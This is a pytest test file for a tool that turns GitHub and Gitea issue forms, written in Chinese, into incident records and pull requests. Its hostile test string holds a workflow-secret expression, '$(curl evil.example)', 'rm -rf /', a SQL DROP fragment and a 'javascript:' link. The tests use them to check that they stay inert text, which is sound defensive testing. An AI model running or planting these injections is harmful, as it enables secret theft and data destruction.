"""`yuqing intake`: bodies exactly as GitHub and Gitea render a submitted form -> records, events, pull requests.

A real bare repository is the remote; the forge's REST API is a local HTTP
server (tests/fakeweb.py) that records the requests and answers with the
documented shapes of GitHub's and Gitea's endpoints.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from yuqing.loader import load_text
from yuqing.typed_time import FORMS

from .conftest import base_incident
from .fakeweb import FakeWeb, emulate_forge, web  # noqa: F401  (web is a fixture)
from .githelper import GitRegister, run_cli

NOW = "2025-03-05T12:00:00+08:00"
ID = "YQ-2025-0001"

REGISTER_FIELDS = ["标题", "等级", "领域", "牵头单位", "来源渠道", "平台", "原帖或报道链接", "发现时间", "事件概要",
                   "网民诉求帖的发布时间", "提出诉求的网民"]
EVENT_FIELDS = ["事件编号", "事件类型", "时间", "办理单位", "等级", "说明", "链接", "发布渠道"]

HOSTILE = ('网民“小王”发帖: 称在 #某超市 买到过期酸奶 "已维权"\n'
           "${{ secrets.YUQING_BOT_TOKEN }} $(curl evil.example) `rm -rf /`\n"
           "level: 特别重大\n- type: 归档\n'; DROP TABLE --")


def github_body(answers: dict[str, str], labels: list[str]) -> str:
    """GitHub: ``### label``, a blank line, the answer; sections joined by a blank line; no final newline."""
    return "\n\n".join(f"### {label}\n\n{answers.get(label) or '_No response_'}" for label in labels)


def gitea_body(answers: dict[str, str], labels: list[str]) -> str:
    """Gitea (RenderToMarkdown): ``### label\\n\\n`` + answer + ``\\n\\n`` per field; here with Windows line ends."""
    text = "".join(f"### {label}\n\n{answers.get(label) or '_No response_'}\n\n" for label in labels)
    return text.replace("\n", "\r\n")


GOOD = {"标题": "某超市销售过期酸奶被网民曝光", "等级": "一般", "领域": "食品安全", "牵头单位": "食品经营安全监管科",
        "来源渠道": "社交媒体", "平台": "公众号", "发现时间": "2025-03-04 20:10", "事件概要": HOSTILE}


@pytest.fixture
def register(tmp_path: Path) -> GitRegister:
    """A register with one committed record, pushed to a real bare repository (origin)."""
    bare = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(bare)], check=True)
    (tmp_path / "work").mkdir()
    repo = GitRegister(tmp_path / "work")
    repo.settings(intake={"allowed": ["zhangsan", "office/duty"], "base": "main"})
    repo.write(base_incident())
    repo.commit(f"登记 {ID}")
    repo.git("remote", "add", "origin", str(bare))
    repo.git("push", "-q", "-u", "origin", "main")
    return repo


def _origin(repo: GitRegister, *args: str) -> str:
    done = subprocess.run(["git", "--git-dir", str(repo.root.parent / "origin.git"), *args],
                          capture_output=True, text=True, check=False)
    return done.stdout.strip() if done.returncode == 0 else ""


def _publish(repo: GitRegister, capsys, monkeypatch, web: FakeWeb, kind: str, body: str, *,
             issue: int = 7, authors: tuple[str, ...] = ("zhangsan",)) -> tuple[int, str, str]:
    api = emulate_forge(web, kind, teams={"office/duty": ["lisi"]}) if not web.routes else \
        web.url + ("/api/v3" if kind == "github" else "/api/v1")
    monkeypatch.setenv("ISSUE_BODY", body)
    monkeypatch.setenv("GITHUB_REPOSITORY", "office/yuqing")
    monkeypatch.setenv("YUQING_BOT_TOKEN", "tok-123")
    monkeypatch.setenv("YUQING_FORGE_API", api)
    monkeypatch.setenv("YUQING_FORGE", kind)
    argv = ["intake", "--body-env", "ISSUE_BODY", "--issue", str(issue), "--publish", "--now", NOW,
            "--root", str(repo.root)]
    for author in authors:
        argv += ["--author", author]
    return run_cli(argv, capsys)


def _file_on_branch(repo: GitRegister, branch: str, rel: str) -> dict:
    text = _origin(repo, "show", f"{branch}:{rel}")
    assert text, f"{rel} not on {branch}"
    loaded = load_text(text + "\n", rel)
    assert not [i for i in loaded.issues if i.severity == "error"]
    return loaded.data


# --- end to end through the forge ---------------------------------------------------------

def test_a_github_form_becomes_a_checked_pull_request(register: GitRegister, capsys, monkeypatch, web: FakeWeb) -> None:
    code, out, err = _publish(register, capsys, monkeypatch, web, "github", github_body(GOOD, REGISTER_FIELDS))
    assert code == 0, out + err
    rel = "incidents/2025/YQ-2025-0002.yml"
    data = _file_on_branch(register, "intake/issue-7", rel)
    # Exactly what was typed; the attacker's text stays text in the summary and moves nothing.
    assert data["summary"] == HOSTILE
    assert (data["level"], data["status"], data["timeline"]) == ("一般", "监测中", [])
    assert data["source"] == {"channel": "社交媒体", "platform": "微信公众号"}  # 公众号: the table's name
    assert data["discovered_at"] == "2025-03-04T20:10:00+08:00"
    # One commit on top of main, holding only the new file.
    assert _origin(register, "rev-list", "--count", "main..intake/issue-7") == "1"
    assert _origin(register, "diff", "--name-only", "main", "intake/issue-7") == rel
    [pull] = web.requests("POST", "/api/v3/repos/office/yuqing/pulls")
    assert pull.headers["authorization"] == "Bearer tok-123"
    assert (pull.body["head"], pull.body["base"]) == ("intake/issue-7", "main")
    assert pull.body["title"] == "登记 YQ-2025-0002 某超市销售过期酸奶被网民曝光"
    assert "打开本合并请求之前,登记作业已运行与合并请求审核相同的检查,均已通过" in pull.body["body"]
    assert "yuqing audit --base origin/main" in pull.body["body"] and "Closes #7" in pull.body["body"]
    [said] = web.requests("POST", "/api/v3/repos/office/yuqing/issues/7/comments")
    assert said.body["body"].startswith("已生成合并请求 #100:https://github.com/office/yuqing/pull/100")
    assert "已生成合并请求 #100" in out


def test_a_gitea_form_with_windows_line_ends(register: GitRegister, capsys, monkeypatch, web: FakeWeb) -> None:
    answers = {**GOOD, "原帖或报道链接": "https://mp.weixin.qq.com/s/abc?x=1#frag", "网民诉求帖的发布时间": "3月4日 19:55",
               "提出诉求的网民": '网民"老张": #维权'}
    code, out, err = _publish(register, capsys, monkeypatch, web, "gitea", gitea_body(answers, REGISTER_FIELDS))
    assert code == 0, out + err
    data = _file_on_branch(register, "intake/issue-7", "incidents/2025/YQ-2025-0002.yml")
    assert data["summary"] == HOSTILE  # CRLF read as line ends, not as characters
    assert data["source"]["url"] == "https://mp.weixin.qq.com/s/abc?x=1#frag"
    assert data["appeal"] == {"posted_at": "2025-03-04T19:55:00+08:00", "author": '网民"老张": #维权'}
    [pull] = web.requests("POST", "/api/v1/repos/office/yuqing/pulls")
    assert pull.headers["authorization"] == "token tok-123"
    assert web.requests("POST", "/api/v1/repos/office/yuqing/issues/7/comments")[0].body["body"].startswith(
        "已生成合并请求 #100:https://git.example.gov.cn/office/yuqing/pulls/100")


def test_editing_the_issue_updates_the_same_branch_and_request(register: GitRegister, capsys, monkeypatch,
                                                               web: FakeWeb) -> None:
    assert _publish(register, capsys, monkeypatch, web, "github", github_body(GOOD, REGISTER_FIELDS))[0] == 0
    edited = {**GOOD, "标题": "某超市销售过期酸奶(已核实)", "等级": "敏感"}
    code, out, err = _publish(register, capsys, monkeypatch, web, "github", github_body(edited, REGISTER_FIELDS))
    assert code == 0, out + err
    data = _file_on_branch(register, "intake/issue-7", "incidents/2025/YQ-2025-0002.yml")
    assert (data["title"], data["level"]) == ("某超市销售过期酸奶(已核实)", "敏感")
    assert _origin(register, "rev-list", "--count", "main..intake/issue-7") == "1"  # replaced, not stacked
    assert len(web.requests("POST", "/api/v3/repos/office/yuqing/pulls")) == 1
    last = web.requests("POST", "/api/v3/repos/office/yuqing/issues/7/comments")[-1]
    assert last.body["body"].startswith("已按修改后的内容更新合并请求 #100")


def test_problems_go_back_to_the_issue_and_nothing_is_pushed(register: GitRegister, capsys, monkeypatch,
                                                             web: FakeWeb) -> None:
    wrong = {**GOOD, "标题": "", "等级": "很严重", "发现时间": "25:10"}
    code, out, err = _publish(register, capsys, monkeypatch, web, "gitea", gitea_body(wrong, REGISTER_FIELDS))
    assert code == 1
    problems = ["“标题”必须填写。", f"发现时间:“25:10”不是有效的时刻(小时 0–23,分钟 0–59)。可以写:{FORMS}(按台账时区理解)。"]
    assert err.splitlines() == ["未能登记,表单内容有以下问题(未写入任何文件):", *(f"- {p}" for p in problems)]
    [said] = web.requests("POST", "/api/v1/repos/office/yuqing/issues/7/comments")
    assert said.body["body"].startswith("**未能登记**")
    assert "“标题”必须填写。" in said.body["body"]
    assert _origin(register, "branch", "--list", "intake/*") == ""
    assert not web.requests("POST", "/api/v1/repos/office/yuqing/pulls")
    # Once the blanks are filled, the value check speaks (the same as `yuqing new`).
    code, _, err = _publish(register, capsys, monkeypatch, web, "gitea",
                            gitea_body({**GOOD, "等级": "很严重"}, REGISTER_FIELDS))
    assert code == 1 and "- 等级“很严重”无效。" in err


@pytest.mark.parametrize(("kind", "author", "served"), [
    ("github", "ZhangSan", True), ("github", "lisi", True), ("gitea", "lisi", True),
    ("github", "mallory", False), ("gitea", "mallory", False),
])
def test_only_listed_people_and_teams_are_served(register: GitRegister, capsys, monkeypatch, web: FakeWeb,
                                                 kind: str, author: str, served: bool) -> None:
    code, out, err = _publish(register, capsys, monkeypatch, web, kind, github_body(GOOD, REGISTER_FIELDS),
                              authors=(author,))
    assert code == (0 if served else 1), out + err
    assert bool(_origin(register, "branch", "--list", "intake/issue-7")) is served
    if not served:
        assert f"未处理:{author} 不在 register.yml 的 intake.allowed 中" in err
        [said] = web.requests("POST", prefix=f"/api/{'v3' if kind == 'github' else 'v1'}/repos/office/yuqing/issues/7")
        assert "不在本台账的网页登记名单" in said.body["body"]


def test_a_stranger_hears_it_once_per_issue(register: GitRegister, capsys, monkeypatch, web: FakeWeb) -> None:
    for _ in range(3):  # opened, edited, "/重试"
        code, _, _ = _publish(register, capsys, monkeypatch, web, "github", github_body(GOOD, REGISTER_FIELDS),
                              authors=("mallory",))
        assert code == 1
    assert len(web.requests("POST", "/api/v3/repos/office/yuqing/issues/7/comments")) == 1


def test_a_wrong_edit_says_the_earlier_request_still_holds(register: GitRegister, capsys, monkeypatch,
                                                           web: FakeWeb) -> None:
    assert _publish(register, capsys, monkeypatch, web, "github", github_body(GOOD, REGISTER_FIELDS))[0] == 0
    code, _, _ = _publish(register, capsys, monkeypatch, web, "github",
                          github_body({**GOOD, "等级": "很严重"}, REGISTER_FIELDS))
    assert code == 1
    said = web.requests("POST", "/api/v3/repos/office/yuqing/issues/7/comments")[-1].body["body"]
    assert "此前为本页生成的合并请求(分支 `intake/issue-7`)**仍是上一次的内容**" in said
    assert _file_on_branch(register, "intake/issue-7", "incidents/2025/YQ-2025-0002.yml")["level"] == "一般"


def test_two_open_forms_never_get_the_same_id(register: GitRegister, capsys, monkeypatch, web: FakeWeb) -> None:
    assert _publish(register, capsys, monkeypatch, web, "github", github_body(GOOD, REGISTER_FIELDS), issue=7)[0] == 0
    register.git("switch", "-q", "main")
    code, out, err = _publish(register, capsys, monkeypatch, web, "github",
                              github_body({**GOOD, "标题": "另一起"}, REGISTER_FIELDS), issue=8)
    assert code == 0, out + err
    assert _origin(register, "diff", "--name-only", "main", "intake/issue-8") == "incidents/2025/YQ-2025-0003.yml"


def test_two_intake_runs_racing_for_one_id(register: GitRegister, capsys, monkeypatch, web: FakeWeb) -> None:
    """Issue 8's run (its own clone) allocates 0002; issue 7's run pushes 0002 before 8 pushes: 8 takes 0003."""
    import shlex
    import sys

    from .githelper import git_env

    other = register.root.parent / "runner-7"
    subprocess.run(["git", "clone", "-q", str(register.root.parent / "origin.git"), str(other)], check=True,
                   env=git_env())
    for key, value in (("user.name", "测试"), ("user.email", "test@example.gov.cn")):
        subprocess.run(["git", "-C", str(other), "config", key, value], check=True)
    monkeypatch.setenv("BODY_7", github_body({**GOOD, "标题": "先推送的一起"}, REGISTER_FIELDS))
    tool = [sys.executable, "-c", "from yuqing.cli import run; run()"]
    argv = [*tool, "intake", "--body-env", "BODY_7", "--issue", "7", "--author", "zhangsan", "--publish",
            "--now", NOW, "--root", str(other)]
    # Issue 7's whole run happens while issue 8's run sits between its commit and its push (a real hook).
    mark = register.root.parent / "raced"
    hook = register.root / ".git" / "hooks" / "post-commit"
    hook.write_text(f"#!/bin/sh\n[ -e {shlex.quote(str(mark))} ] && exit 0\ntouch {shlex.quote(str(mark))}\n"
                    f"unset $(git rev-parse --local-env-vars)\n{shlex.join(argv)} >/dev/null 2>&1\n", encoding="utf-8")
    hook.chmod(0o755)
    code, out, err = _publish(register, capsys, monkeypatch, web, "github",
                              github_body({**GOOD, "标题": "后推送的一起"}, REGISTER_FIELDS), issue=8)
    assert code == 0, out + err
    assert mark.exists()
    assert "注意:编号 YQ-2025-0002 已被 origin/intake/issue-7 占用(同时提交的表单),重新分配编号。" in err
    assert _origin(register, "diff", "--name-only", "main", "intake/issue-7") == "incidents/2025/YQ-2025-0002.yml"
    assert _origin(register, "diff", "--name-only", "main", "intake/issue-8") == "incidents/2025/YQ-2025-0003.yml"
    assert _file_on_branch(register, "intake/issue-8", "incidents/2025/YQ-2025-0003.yml")["title"] == "后推送的一起"
    assert _origin(register, "rev-list", "--count", "main..intake/issue-8") == "1"
    titles = sorted(r.body["title"] for r in web.requests("POST", "/api/v3/repos/office/yuqing/pulls"))
    assert titles == ["登记 YQ-2025-0002 先推送的一起", "登记 YQ-2025-0003 后推送的一起"]


def test_the_race_comment_asks_for_a_retry() -> None:
    from yuqing.intake import race_comment

    said = race_comment("YQ-2025-0004")
    assert said.startswith("**未能登记**") and "YQ-2025-0004" in said and "评论 `/重试`" in said


def test_the_progress_form_appends_an_event(register: GitRegister, capsys, monkeypatch, web: FakeWeb) -> None:
    answers = {"事件编号": "yq-2025-0001", "事件类型": "答复", "时间": "3月4日 10:20", "办理单位": "消费者权益保护科",
               "说明": "已电话答复网民: 商家退款 #结案"}
    code, out, err = _publish(register, capsys, monkeypatch, web, "gitea", gitea_body(answers, EVENT_FIELDS))
    assert code == 0, out + err
    data = _file_on_branch(register, "intake/issue-7", f"incidents/2025/{ID}.yml")
    assert data["timeline"][-1] == {"at": "2025-03-04T10:20:00+08:00", "type": "答复", "by": "消费者权益保护科",
                                    "note": "已电话答复网民: 商家退款 #结案"}
    assert data["status"] == "处置中"
    [pull] = web.requests("POST", "/api/v1/repos/office/yuqing/pulls")
    assert pull.body["title"] == f"{ID}: 追加事件 答复"


# --- the command alone (no forge) ------------------------------------------------------

def _intake(repo: GitRegister, capsys, body: str, *args: str) -> tuple[int, str, str]:
    path = repo.root.parent / "body.md"
    path.write_bytes(body.encode("utf-8"))
    return run_cli(["intake", "--body-file", str(path), *args, "--now", NOW, "--root", str(repo.root)], capsys)


def test_without_publish_it_writes_the_file_only(register: GitRegister, capsys) -> None:
    code, out, _ = _intake(register, capsys, github_body(GOOD, REGISTER_FIELDS), "--form", "register")
    assert code == 0
    assert out.splitlines()[0] == "已写入 incidents/2025/YQ-2025-0002.yml(登记 YQ-2025-0002 某超市销售过期酸奶被网民曝光)"
    assert register.git("status", "--porcelain") == "?? incidents/2025/YQ-2025-0002.yml"


@pytest.mark.parametrize(("answers", "problem"), [
    ({**GOOD, "原帖或报道链接": "javascript:alert(1)"}, "原帖或报道链接:链接“javascript:alert(1)”不是网址:应以 http:// 或 https:// 开头"),
    ({**GOOD, "原帖或报道链接": "ftp://example.com/a"}, "原帖或报道链接:链接“ftp://example.com/a”不是网址"),
    ({**GOOD, "来源渠道": "微博", "平台": "抖音号"}, "来源渠道“微博”是平台“微博”,与平台“抖音号”"),
    ({**GOOD, "事件概要": "### 标题\n\n改掉的标题"}, "表单中“### 标题”出现了不止一次:回答里请不要写以 ### 开头的行。"),
    ({**GOOD, "发现时间": "2025-03-06 09:00"}, "发现时间:“2025-03-06 09:00”即 2025-03-06 09:00,晚于现在超过 10 分钟,不能记录未来的时间。"),
    ({**GOOD, "牵头单位": "食品科"}, "牵头单位“食品科”无效。"),
])
def test_exact_chinese_problems(register: GitRegister, capsys, answers: dict[str, str], problem: str) -> None:
    code, _, err = _intake(register, capsys, github_body(answers, REGISTER_FIELDS))
    assert code == 1
    assert any(line.startswith(f"- {problem}") for line in err.splitlines()), err
    assert register.git("status", "--porcelain") == ""


REVIEW_FIELDS = ["事件编号", "起因", "性质", "影响", "责任", "经验教训", "完成时间"]


def test_a_web_clerk_archives_a_major_incident_after_the_review_form(register: GitRegister, capsys) -> None:
    register.write(base_incident(id="YQ-2025-0003", level="重大", title="某学校食堂集体腹泻"))
    register.commit("登记 YQ-2025-0003")
    archive = github_body({"事件编号": "YQ-2025-0003", "事件类型": "归档", "时间": "3月5日 10:00"}, EVENT_FIELDS)
    code, _, err = _intake(register, capsys, archive)
    assert code == 1
    assert "请先用“评估总结”表单为 YQ-2025-0003 填写,再报送“归档”。" in err
    assert "yuqing" not in err and "--" not in err  # no CLI command or flag reaches a web clerk
    review = {"事件编号": "yq-2025-0003", "起因": "食堂留样不规范", "性质": "集体性食源性疾病", "影响": "67 人就医: 全网关注",
              "责任": "企业食堂主体责任", "经验教训": "加强集体用餐单位日常检查 #整改", "完成时间": "3月5日 9:30"}
    code, out, err = _intake(register, capsys, gitea_body(review, REVIEW_FIELDS))
    assert code == 0, err
    assert out.splitlines()[0] == "已写入 incidents/2025/YQ-2025-0003.yml(YQ-2025-0003: 评估总结)"
    data = load_text(register.path("YQ-2025-0003").read_text(encoding="utf-8"), "x.yml").data
    assert data["review"] == {"cause": "食堂留样不规范", "nature": "集体性食源性疾病", "impact": "67 人就医: 全网关注",
                              "responsibility": "企业食堂主体责任", "lessons": "加强集体用餐单位日常检查 #整改",
                              "completed_at": "2025-03-05T09:30:00+08:00"}
    register.commit("评估总结")
    code, _, err = _intake(register, capsys, archive)
    assert code == 0, err


@pytest.mark.parametrize(("body", "problem"), [
    (github_body({**GOOD, "标题": "过期\x07酸奶"}, REGISTER_FIELDS), "- 标题含有控制字符"),
    (github_body({**GOOD, "事件概要": "长" * 400_000}, REGISTER_FIELDS), "- 表单内容过长(超过 1 MB)"),
])
def test_problems_of_the_whole_body_read_as_form_errors(register: GitRegister, capsys, body: str, problem: str) -> None:
    code, _, err = _intake(register, capsys, body)
    assert code == 1
    assert any(line.startswith(problem) for line in err.splitlines()), err
    assert "incidents/" not in err and "(title)" not in err


def test_cli_words_become_form_words() -> None:
    from yuqing.intake import web_words

    assert web_words("“降级”须低于当时的等级“重大”。要升为“特别重大”请用 --type 升级。") == \
        "“降级”须低于当时的等级“重大”。要升为“特别重大”请在“事件类型”中选“升级”。"
    assert web_words("升级须给出 --level。写错了请用 `yuqing correct YQ-2025-0001`。") == \
        "升级须给出 “等级”。写错了请用 “报送处置进展”表单(事件类型选“更正”)。"


def test_an_archived_record_refuses_a_progress_report(register: GitRegister, capsys) -> None:
    body = github_body({"事件编号": "YQ-2025-0009", "事件类型": "答复", "时间": "10:20"}, EVENT_FIELDS)
    code, _, err = _intake(register, capsys, body)
    assert code == 1 and "- 找不到事件 YQ-2025-0009。" in err


def test_a_body_that_is_no_form(register: GitRegister, capsys) -> None:
    code, _, err = _intake(register, capsys, "我想登记一件事\r\n### 随便写的标题\r\n")
    assert code == 1
    assert "这不是网页登记表单的内容(应为:登记新舆情、报送处置进展、评估总结)" in err


def test_other_issues_are_left_alone(register: GitRegister, capsys, monkeypatch, web: FakeWeb) -> None:
    code, out, _ = _publish(register, capsys, monkeypatch, web, "github", "网站打不开了,请看看。\n\n### 截图\n\n无",
                            authors=("mallory",))
    assert (code, out) == (0, "议题 #7 不是网页登记表单,跳过。\n")
    assert web.seen == []  # not even a comment


def test_the_gate_refuses_what_the_pull_request_would_refuse(register: GitRegister) -> None:
    from yuqing.intake import gate_comment, run_gate

    register.git("switch", "-q", "-c", "intake/issue-9")
    register.path(ID).unlink()  # a record deleted: the audit refuses it
    register.commit("删除")
    gate = run_gate(register.root, "main")
    assert not gate.ok
    assert [(title, code) for title, _, code, _ in gate.steps] == [("检查本次改动的事件文件与迟报", 0),
                                                                  ("审核改动(变更策略)", 1)]
    said = gate_comment(gate)
    assert said.startswith("**未能登记**:生成的改动没有通过合并请求的检查,未打开合并请求。")
    assert "- 审核改动(变更策略)(`yuqing audit --base main`):未通过" in said


def test_a_new_kind_of_form_plugs_in(register: GitRegister, capsys) -> None:
    """The seam for further forms: a FormKind in forms.KINDS and a handler in intake.HANDLERS."""
    from yuqing import forms, intake

    kind = forms.FormKind(key="upload", file="3-upload.yml", name="上传导出", description="d", title="[导出] ",
                          labels=(), intro="i", fields=lambda config: (
                              forms.Field("file", "input", "导出文件", required=True),
                              forms.Field("confirm", "checkboxes", "确认", options=("已去除个人信息", "已核对"))))
    seen = {}

    def handler(root, answers, config, now, **_):
        seen.update(answers.values)
        return intake.Result("upload", problems=("尚未实现",))

    forms.add_kind(kind)
    intake.HANDLERS["upload"] = handler
    try:
        body = "### 导出文件\r\n\r\nexport.xlsx\r\n\r\n### 确认\r\n\r\n- [X] 已去除个人信息\r\n- [ ] 已核对\r\n\r\n"
        code, _, err = _intake(register, capsys, body)
    finally:
        del forms.KINDS["upload"], intake.HANDLERS["upload"]
    assert seen == {"file": "export.xlsx", "confirm": "已去除个人信息"}
    assert code == 1 and "- 尚未实现" in err
